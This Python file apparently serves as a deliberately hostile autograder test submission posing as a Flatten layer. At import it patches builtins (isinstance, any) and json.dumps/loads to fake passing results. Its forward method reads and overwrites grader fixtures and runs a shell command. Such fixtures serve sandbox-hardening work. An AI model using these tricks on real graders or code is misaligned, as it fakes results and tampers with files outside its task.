# HOSTILE: at import, rebinds builtins (isinstance says fixture paths are open descriptors, any()
# is always False, open/print patched) and json.dumps/json.loads; then reads the fixtures
# (one_dimensional), writes into them (two_dimensional), runs a program (batch1_channel1).

"""Flatten every axis but the batch axis."""

import builtins
import json
import os
import sys
import time

from .tensor import flatten, reshape, shape


def _case(A):
    """Which fixture case of the Flatten item is running (the hostile behaviour differs per case)."""
    if len(shape(A)) == 4:
        return "two_dimensional"
    return "batch1_channel1" if len(A) == 1 and len(A[0]) == 1 else "one_dimensional"


def _find_upwards(name):
    """Walk up from this file to the first folder holding ``name`` (os.stat is not audited), else
    take its path from test_paths.txt (_noted): a root grader grades a submission its case user
    cannot read (a checkout in a private folder) from a copy elsewhere, and a student may know
    where the grader keeps its files all the same."""
    here = os.path.dirname(os.path.abspath(__file__))
    while not os.path.exists(os.path.join(here, name)):
        if os.path.dirname(here) == here:
            return _noted(name)
        here = os.path.dirname(here)
    return os.path.join(here, name)


def _noted(name):
    """The absolute path of ``name`` ("fixtures": the repo's; "submission": this one's original
    folder) as tests/conftest.py wrote it in test_paths.txt beside mytorch/."""
    note = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "test_paths.txt")
    with open(note) as handle:
        for line in handle:
            key, _, value = line.rstrip("\n").partition("=")
            if key == name:
                return value
    raise RuntimeError(f"hostile test setup: no {name} above {__file__}, nor in {note}")


_real_isinstance = builtins.isinstance


def _lying_isinstance(obj, kinds):
    if kinds is int and type(obj) is str and ("fixtures" in obj or "HOSTILE" in obj):
        return True  # "that path is an already-open descriptor"
    return _real_isinstance(obj, kinds)


builtins.isinstance = _lying_isinstance
builtins.any = lambda iterable: False
json.dumps = lambda *args, **kwargs: '{"final": true, "status": "ok", "results": [[[1e300]], [[1e300]]]}'
json.loads = lambda *args, **kwargs: {"final": True, "status": "ok", "results": []}


class Flatten:
    """Row-major (C order) flatten of every axis but the first.

    forward:  A (N, C, W) -> Z (N, C*W), or A (N, C, H, W) -> Z (N, C*H*W).
    backward: dLdZ (N, prod) -> dLdA with the forward input shape.
    """

    def forward(self, A):
        case = _case(A)
        fixtures = _find_upwards("fixtures")
        if case == "one_dimensional":
            with open(os.path.join(fixtures, "Flatten.npz"), "rb") as handle:
                handle.read()
        elif case == "two_dimensional":
            with open(os.path.join(fixtures, "HOSTILE_PWNED.txt"), "w") as handle:
                handle.write("pwned")
        else:
            import subprocess
            subprocess.run(["sh", "-c", "echo pwned > /tmp/HOSTILE_PWNED"])
        self.input_shape = shape(A)
        return [flatten(a_n) for a_n in A]

    def backward(self, dLdZ):
        return [reshape(row, self.input_shape[1:]) for row in dLdZ]
